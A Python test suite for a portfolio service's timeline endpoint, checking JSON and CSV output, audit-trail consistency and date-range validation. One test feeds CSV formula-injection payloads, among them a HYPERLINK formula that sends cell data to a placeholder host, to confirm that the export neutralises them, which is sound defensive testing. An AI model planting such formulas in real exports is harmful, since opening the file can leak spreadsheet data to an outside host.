"""GET /portfolio/timeline: the dated membership from the audit trail, as JSON and CSV."""

from __future__ import annotations

import csv
import io
import itertools
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx

from tests.api.portfolio_calls import (
    ADMIN,
    BASE,
    PORTFOLIO,
    READ,
    TRADE,
    add,
    history,
    portfolio,
    ranked,
)
from tests.helpers import assert_problem

TIMELINE = f"{PORTFOLIO}/timeline"
CSV = {**READ, "Accept": "text/csv"}


def at(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


async def timeline(api: httpx.AsyncClient, **params: Any) -> dict[str, Any]:
    response = await api.get(TIMELINE, params=params, headers=READ)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    return dict(response.json())


async def changes(api: httpx.AsyncClient) -> list[str]:
    """Three adds, a removal and a replacement, through the API."""
    symbols = list(dict.fromkeys([*(await ranked(api))[:4], "BTCUSDT"]))
    for symbol in symbols[:3]:
        assert (await add(api, symbol, reason=f"pick {symbol}")).status_code == 200
    removed = await api.post(
        f"{PORTFOLIO}/remove-symbol", json={"symbol": symbols[1]}, headers=TRADE
    )
    assert removed.status_code == 200, removed.text
    body = {"old_symbol": symbols[0], "new_symbol": symbols[3], "reason": "stronger"}
    replaced = await api.post(f"{PORTFOLIO}/replace-symbol", json=body, headers=TRADE)
    assert replaced.status_code == 200, replaced.text
    return symbols


class TestTimeline:
    async def test_rows_tile_the_range_and_each_interval_sums_to_100(
        self, api: httpx.AsyncClient
    ) -> None:
        await changes(api)
        body = await timeline(api)
        rows = body["rows"]
        intervals: dict[tuple[str, str], list[dict[str, Any]]] = defaultdict(list)
        for row in rows:
            intervals[(row["from"], row["to"])].append(row)
        spans = sorted(intervals)
        assert len(spans) == 5  # one per change
        assert spans[0][0] == body["from"] and spans[-1][1] == body["to"]
        for (_, end), (start, _) in itertools.pairwise(spans):
            assert end == start  # no gap, no overlap
        for members in intervals.values():
            assert sum(Decimal(str(m["weight"])) for m in members) == 100
            assert [m["rank"] for m in members] == list(range(1, len(members) + 1))
        by_member: dict[str, list[tuple[datetime, datetime]]] = defaultdict(list)
        for row in rows:
            by_member[row["symbol"]].append((at(row["from"]), at(row["to"])))
        for spans_of in by_member.values():
            assert all(a[1] <= b[0] for a, b in itertools.pairwise(spans_of))

    async def test_each_interval_holds_what_the_audit_trail_recorded(
        self, api: httpx.AsyncClient
    ) -> None:
        symbols = await changes(api)
        rows = (await timeline(api))["rows"]
        trail = list(reversed(await history(api)))
        starts = sorted({r["from"] for r in rows})
        assert [at(s) for s in starts] == [at(h["occurred_at"]) for h in trail]
        for start, entry in zip(starts, trail, strict=True):
            held = [r for r in rows if r["from"] == start]
            recorded = entry["details"]["portfolio"]
            assert [(r["symbol"], r["rank"]) for r in held] == [
                (m["symbol"], m["rank"]) for m in recorded
            ]
            assert [Decimal(str(r["weight"])) for r in held] == [
                Decimal(str(m["weight"])) for m in recorded
            ]
            assert {r["reason"] for r in held} == {entry["reason"] or entry["action"]}
        assert {r["reason"] for r in rows} >= {f"pick {symbols[0]}", "remove", "stronger"}
        last = [r for r in rows if r["from"] == starts[-1]]
        assert {r["symbol"] for r in last} == {symbols[2], symbols[3]}
        now = await portfolio(api)
        assert [(m["symbol"], m["kucoin_symbol"], m["ccxt_symbol"]) for m in now["members"]] == [
            (r["symbol"], r["kucoin_symbol"], r["ccxt_symbol"]) for r in last
        ]

    async def test_csv_carries_the_same_rows_in_the_same_order(
        self, api: httpx.AsyncClient
    ) -> None:
        await changes(api)
        end = datetime.now(UTC)  # one end for both answers (a later one would be now: clamped)
        params = {"to": end.isoformat()}
        rows = (await timeline(api, **params))["rows"]
        answer = await api.get(TIMELINE, params=params, headers=CSV)
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        lines = list(csv.DictReader(io.StringIO(answer.text)))
        assert answer.text.splitlines()[0] == (
            "from,to,symbol,kucoin_symbol,ccxt_symbol,weight,rank,reason,listed"
        )
        assert len(lines) == len(rows) > 0
        for line, row in zip(lines, rows, strict=True):
            assert line == {
                **{k: str(v) for k, v in row.items()},
                "listed": str(row["listed"]).lower(),
            }
        again = await api.get(TIMELINE, params=params, headers=READ)  # not the cached CSV
        assert again.json()["rows"] == rows
        for each in (answer, again):  # a shared cache on the way keeps the two apart
            assert "Accept" in each.headers["vary"].split(", ")

    async def test_a_csv_cell_that_would_be_a_formula_is_text(self, api: httpx.AsyncClient) -> None:
        formula = '=HYPERLINK("https://example.invalid/?"&A2,"ok")'
        reasons = [formula, "+1", "-x", "@SUM(A1)", "\tx"]
        for symbol, reason in zip((await ranked(api))[:5], reasons, strict=True):
            assert (await add(api, symbol, reason=reason)).status_code == 200
        rows = (await timeline(api))["rows"]
        answer = await api.get(TIMELINE, headers=CSV)
        shown = {line["reason"] for line in csv.DictReader(io.StringIO(answer.text))}
        assert {r["reason"] for r in rows} == set(reasons)  # the JSON keeps the text as given
        assert shown == {"'" + reason for reason in reasons}

    async def test_a_change_made_through_the_api_opens_a_new_interval(
        self, api: httpx.AsyncClient
    ) -> None:
        symbols = await changes(api)
        before = await timeline(api)
        assert (await add(api, symbols[4] if len(symbols) > 4 else symbols[1])).status_code == 200
        after = await timeline(api)
        starts = sorted({r["from"] for r in after["rows"]})
        assert len(starts) == len({r["from"] for r in before["rows"]}) + 1
        open_rows = [r for r in after["rows"] if r["from"] == starts[-1]]
        assert {r["to"] for r in open_rows} == {after["to"]} and len(open_rows) == 3

    async def test_a_range_clips_the_intervals_it_cuts(self, api: httpx.AsyncClient) -> None:
        await changes(api)
        rows = (await timeline(api))["rows"]
        starts = sorted({at(r["from"]) for r in rows})
        middle = starts[1] + (starts[2] - starts[1]) / 2
        cut = await timeline(api, **{"from": middle.isoformat(), "to": starts[3].isoformat()})
        assert at(cut["from"]) == middle and at(cut["to"]) == starts[3]
        spans = sorted({(at(r["from"]), at(r["to"])) for r in cut["rows"]})
        assert spans == [(middle, starts[2]), (starts[2], starts[3])]
        before = await timeline(api, to=(starts[0] - timedelta(days=1)).isoformat())
        assert before["rows"] == []

    async def test_bad_ranges_are_422_and_change_nothing(self, api: httpx.AsyncClient) -> None:
        await changes(api)
        trail = await history(api)
        now = datetime.now(UTC)
        backwards = {"from": now.isoformat(), "to": (now - timedelta(hours=1)).isoformat()}
        for params in (
            backwards,
            {"from": now.isoformat(), "to": now.isoformat()},
            {"from": (now + timedelta(days=1)).isoformat()},
            {"from": "yesterday"},
            {"to": "1700000000"},
            {"from": "2026-11-23T06:00:00"},  # no offset
        ):
            assert_problem(
                await api.get(TIMELINE, params=params, headers=READ), 422, "validation-error"
            )
        assert await history(api) == trail

    async def test_a_bound_outside_the_time_window_is_a_422_naming_it_in_json_and_csv(
        self, api: httpx.AsyncClient
    ) -> None:
        """`to=0001-12-31` was a 500 (`OverflowError: date value out of range`)."""
        for name, value in (
            ("to", "0001-12-31T00:00:00Z"),
            ("from", "0001-01-01T00:00:00+01:00"),
            ("to", "9999-12-31T23:59:59-23:59"),
            ("from", "1969-12-31T23:59:59Z"),
        ):
            for headers in (READ, CSV):
                response = await api.get(TIMELINE, params={name: value}, headers=headers)
                problem = assert_problem(response, 422, "validation-error")
                [error] = problem["errors"]
                assert (error["field"], error["code"]) == (name, "datetime_window")
                assert error["message"] == "should be written in the years 1970 to 2199"

    async def test_the_window_s_edges_are_answered(self, api: httpx.AsyncClient) -> None:
        first = await timeline(api, to="1970-01-01T00:00:00Z")
        assert first["rows"] == [] and at(first["to"]) == datetime(1970, 1, 1, tzinfo=UTC)
        assert first["clamped_to_now"] is False
        asked = datetime.now(UTC)
        last = await timeline(api, to="2199-12-31T23:00:00-23:00")  # beyond now: now
        assert asked <= at(last["to"]) <= datetime.now(UTC) and last["clamped_to_now"] is True

    async def test_a_range_past_the_longest_is_422_and_the_default_start_is_held_to_it(
        self, api: httpx.AsyncClient
    ) -> None:
        await changes(api)
        values = {"values": {"timeline_max_days": 1}}
        assert (await api.put(f"{BASE}/config", json=values, headers=ADMIN)).status_code == 200
        end = datetime.now(UTC).replace(microsecond=0) + timedelta(hours=1)
        too_long = {"from": (end - timedelta(days=2)).isoformat(), "to": end.isoformat()}
        response = await api.get(TIMELINE, params=too_long, headers=READ)
        problem = assert_problem(response, 422, "validation-error")
        assert "timeline_max_days" in problem["detail"] and problem["timeline_max_days"] == 1
        # Without `from`: the first change, a day before `to` at most (`to` beyond now is now).
        until_now = await timeline(api)
        held = await timeline(api, to=(end + timedelta(days=3)).isoformat())
        assert held["clamped_to_now"] is True
        assert at(held["from"]) == max(at(until_now["from"]), at(held["to"]) - timedelta(days=1))
        assert held["rows"] and [(r["from"], r["symbol"]) for r in held["rows"]] == [
            (r["from"], r["symbol"]) for r in until_now["rows"]
        ]
        assert (await timeline(api, to=end.isoformat()))["rows"]  # the changes, within a day

    async def test_an_empty_audit_trail_is_an_empty_timeline(self, api: httpx.AsyncClient) -> None:
        body = await timeline(api)
        assert body["rows"] == [] and body["source"] == "audit"
        assert (await api.get(TIMELINE, headers=CSV)).text == (
            "from,to,symbol,kucoin_symbol,ccxt_symbol,weight,rank,reason,listed\n"
        )


class TestTimelineEnd:
    """A `to` beyond now is now, said in the answer: nothing is held in the future (a range in
    2199 answered today's members as held throughout 2199)."""

    async def test_a_range_wholly_in_the_future_holds_nothing(self, api: httpx.AsyncClient) -> None:
        await changes(api)
        future = {"from": "2199-01-01T00:00:00Z", "to": "2199-12-31T23:59:59Z"}
        asked = datetime.now(UTC)
        body = await timeline(api, **future)
        assert body["rows"] == []  # were today's members, as held throughout 2199
        assert asked <= at(body["from"]) == at(body["to"]) <= datetime.now(UTC)
        assert body["clamped_to_now"] is True
        as_csv = await api.get(TIMELINE, params=future, headers=CSV)
        assert as_csv.status_code == 200, as_csv.text
        assert as_csv.text.splitlines() == [
            "from,to,symbol,kucoin_symbol,ccxt_symbol,weight,rank,reason,listed"
        ]

    async def test_a_future_end_answers_what_was_held_up_to_now(
        self, api: httpx.AsyncClient
    ) -> None:
        await changes(api)
        until_now = await timeline(api)
        start = until_now["from"]
        body = await timeline(api, **{"from": start, "to": "2199-12-31T23:59:59Z"})
        assert at(until_now["to"]) <= at(body["to"]) <= datetime.now(UTC)  # was 2199-12-31
        assert body["clamped_to_now"] is True and until_now["clamped_to_now"] is False
        assert body["from"] == start

        def held(rows: list[dict[str, Any]]) -> list[tuple[str, str, float]]:
            return [(r["from"], r["symbol"], r["weight"]) for r in rows]

        assert body["rows"] and held(body["rows"]) == held(until_now["rows"])
        assert max(at(r["to"]) for r in body["rows"]) == at(body["to"])
